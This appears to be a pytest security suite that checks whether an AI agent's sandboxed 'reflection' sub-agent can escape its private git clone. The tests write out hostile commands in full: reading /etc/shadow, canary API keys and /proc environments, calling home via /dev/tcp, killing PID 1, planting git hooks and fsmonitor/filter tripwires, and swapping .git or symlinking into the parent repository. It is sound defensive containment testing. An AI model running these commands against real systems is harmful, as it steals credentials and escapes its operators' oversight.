"""The reflection sub-agent attacks its own sandbox, and nothing outside its clone changes.

Each attack runs through the sub-agent's real ``bash`` in a real bubblewrap sandbox, in the
job's real private clone, with a canary provider key in the environment and in
``agentd.toml``, another agent's transcript beside it, and a loopback listener waiting for
a call home. The home is placed under ``/tmp`` and outside it, since ``--tmpfs /tmp`` once
hid a home under ``/tmp``. What must hold afterwards: no canary in anything the model saw,
no connection, no hook or planted command ever ran (now or in the harness's later git
commands), no ref of the parent moved, and, for a job that did not earn a merge, not one
byte of the home outside the clone changed.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentd.jobs.checkout import Worktree, create_worktree
from agentd.jobs.finalize import finalize
from reflector.tools import ReflectionBash, reflection_context
from shared import sandbox
from shared.memory import git
from shared.memory.repo import MemoryRepo
from shared.reflection.payload import PayloadFile
from tests.security.walls import (
    CANARY_KEY,
    Listener,
    changed,
    fingerprint,
    tripped,
    tripwire_script,
)
from tests.support.payloads import payload_of

pytestmark = pytest.mark.skipif(
    not sandbox.available(), reason=f"bubblewrap unusable here: {sandbox.reason()}"
)

HOOKS = (
    "pre-commit",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-merge-commit",
    "reference-transaction",
)
SAID = (("2026-11-29T15:50:00+00:00", "我更喜欢用 tabs 缩进"),)


class Job:
    """A home with two agents, a reflection job's clone of a1's memory, and its tools."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.memory = home / "agents/a1/memory"
        MemoryRepo.create(self.memory, agent_id="a1", agent_name="Ada", persona="p", human="- x")
        other = home / "agents/a2/conversations/c1/messages.jsonl"
        other.parent.mkdir(parents=True)
        other.write_text('{"content": "a2-private-transcript"}\n')
        (home / "agentd.toml").write_text(f'[providers.openai]\napi_key = "{CANARY_KEY}"\n')
        self.wire = home / "wire"
        self.wire.mkdir()
        self.tripwire = tripwire_script(self.wire)
        self.payload: PayloadFile = payload_of(home / "agents/a1/reflections", *SAID)
        self.clone: Worktree = create_worktree(
            self.memory, home / "agents/a1/reflections/worktrees", "job-1", author_email="a@b"
        )
        self.bash = ReflectionBash(self.payload.files)
        self.ctx = reflection_context(
            worktree=self.clone.path, payload_path=self.payload.path, parent_agent_id="a1"
        )

    def run(self, command: str) -> str:
        return asyncio.run(self.bash.run({"command": command, "timeout_s": 20}, self.ctx))

    def parent_refs(self) -> str:
        return git.run(self.memory, "for-each-ref", "--format=%(refname) %(objectname)").stdout

    def untouched_outside_clone(self) -> dict[str, str]:
        return fingerprint(self.home, skip=[self.clone.path])


@pytest.fixture(params=["home-under-tmp", "home-outside-tmp"])
def job(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[Job]:
    monkeypatch.setenv("OPENAI_API_KEY", CANARY_KEY)
    base = "/tmp" if request.param == "home-under-tmp" else "/var/tmp"
    home = Path(tempfile.mkdtemp(prefix="agentd-walls-", dir=base))
    yield Job(home)
    shutil.rmtree(home, ignore_errors=True)


def test_what_the_sandbox_shows_is_the_clone_the_payload_and_a_bare_system(job: Job) -> None:
    listener = Listener()
    try:
        out = job.run(
            f'cat "$TRANSCRIPT_PATH" | head -c 2000; echo; '
            f"cat /etc/shadow {job.home}/agentd.toml {job.home}/agents/a2/conversations/c1/"
            "messages.jsonl; "
            f"ls {job.home} {job.home}/agents /root /home /work; "
            "cat /proc/1/environ /proc/*/environ | tr '\\0' '\\n'; "
            f"grep -rl {CANARY_KEY} /tmp /etc /usr/local/etc . 2>/dev/null; "
            f"timeout 3 bash -c 'echo hi > /dev/tcp/127.0.0.1/{listener.port}' && echo CONNECTED; "
            f"kill -9 1 {os.getpid()} {os.getppid()} 2>&1; "
            "echo done"
        )
        connections = listener.connections()
    finally:
        listener.close()
    assert "tabs 缩进" in out, "the payload stays readable"
    assert out.rstrip().endswith("done")
    assert CANARY_KEY not in out
    assert "a2-private-transcript" not in out and "root:" not in out
    assert "CONNECTED" not in out and connections == 0
    assert "No such file or directory" in out


def test_an_attack_on_git_changes_nothing_outside_the_clone_of_a_failed_job(job: Job) -> None:
    """The issue's attack: plant hooks and an fsmonitor for the harness, move the parent's
    branch, point the clone at other objects; the job then fails (``empty_report``)."""
    before, refs = job.untouched_outside_clone(), job.parent_refs()
    parent_git = job.memory / ".git"
    plant = "; ".join(
        f"printf '#!/bin/sh\\n{job.tripwire} {hook}\\n' > {where}/hooks/{hook}; "
        f"chmod +x {where}/hooks/{hook}"
        for hook in HOOKS
        for where in (parent_git, ".git")
    )
    out = job.run(
        "mkdir -p .git/hooks; "
        f"{plant}; "
        f"git config core.fsmonitor {job.tripwire}; git config core.hooksPath .git/hooks; "
        f"printf '[core]\\n\\tfsmonitor = {job.tripwire}\\n' >> {parent_git}/config; "
        f"git -C {job.memory} update-ref refs/heads/main HEAD; "
        f"echo '- planted' >> {job.memory}/system/human.md; "
        "echo '- hijacked' >> system/human.md; git add -A; "
        "git -c core.hooksPath=/dev/null commit -qm hijack; "
        "git update-ref refs/heads/main HEAD; "
        f"echo {job.home}/agents/a2/.git/objects >> .git/objects/info/alternates; "
        "printf 'gitdir: %s\\n' "
        f"{parent_git} > .git/commondir; "
        "echo end"
    )
    assert out.rstrip().endswith("end")

    result = finalize(job.clone, should_merge=False, failure_summary="empty_report")

    assert (result.status, result.consumed) == ("failed", False)
    assert not tripped(job.wire)
    assert job.parent_refs() == refs
    assert changed(before, job.untouched_outside_clone()) == []
    assert "- hijacked" not in git.run(job.memory, "show", "HEAD:system/human.md").stdout


def test_a_merged_job_brings_only_its_commit_and_no_planted_hook_or_config(job: Job) -> None:
    hooks, config = sorted((job.memory / ".git/hooks").glob("*")), (job.memory / ".git/config")
    config_before = config.read_bytes()
    plant = "; ".join(
        f"printf '#!/bin/sh\\n{job.tripwire} {hook}\\n' > .git/hooks/{hook}; "
        f"chmod +x .git/hooks/{hook}"
        for hook in HOOKS
    )
    job.run(
        "echo '- likes tabs' >> system/human.md && git add -A && "
        "git commit -qm 'feat(reflection): tabs' && "
        f"mkdir -p .git/hooks && {plant} && "
        f"git config core.fsmonitor {job.tripwire} && git config core.hooksPath .git/hooks && "
        "printf '* filter=evil\\n' > .git/info-attributes && "
        f"git config filter.evil.clean {job.tripwire} && git config filter.evil.smudge "
        f"{job.tripwire}"
    )

    result = finalize(job.clone, should_merge=True)
    with MemoryRepo(job.memory) as parent:
        (parent.path / "notes.md").write_text("the daemon's next turn\n")
        parent.commit_all("turn edit", author_name="a1", author_email="a1@agentd.local")
    create_worktree(job.memory, job.clone.path.parent, "job-2", author_email="a@b")

    assert result.status == "merged"
    assert "- likes tabs" in (job.memory / "system/human.md").read_text()
    assert not tripped(job.wire)
    assert sorted((job.memory / ".git/hooks").glob("*")) == hooks
    assert config.read_bytes() == config_before


def test_a_clone_whose_git_dir_was_swapped_for_the_parents_is_not_read(job: Job) -> None:
    """``.git`` replaced by a ``gitdir:`` file naming the parent (or a link to it) would
    make the harness's git run in the parent; it is refused before any git runs."""
    before, refs = job.untouched_outside_clone(), job.parent_refs()
    job.run(f"rm -rf .git && printf 'gitdir: {job.memory}/.git\\n' > .git")

    result = finalize(job.clone, should_merge=True)

    assert (result.status, result.failure_phase) == ("failed", "reflection")
    assert "replaced its checkout's .git" in result.message
    assert job.parent_refs() == refs
    assert changed(before, job.untouched_outside_clone()) == []


def test_a_link_planted_where_the_harness_rewrites_the_clone_aims_nothing_at_the_parent(
    job: Job,
) -> None:
    """``.git/objects/info`` made a link to the parent's: resetting the clone's alternates
    would have written through it into the parent's object store."""
    before, refs = job.untouched_outside_clone(), job.parent_refs()
    job.run(
        "rm -rf .git/objects/info && "
        f"ln -s {job.memory}/.git/objects/info .git/objects/info && echo linked"
    )

    result = finalize(job.clone, should_merge=True)

    assert (result.status, result.failure_phase) == ("failed", "reflection")
    assert "by a link" in result.message
    assert job.parent_refs() == refs
    assert changed(before, job.untouched_outside_clone()) == []
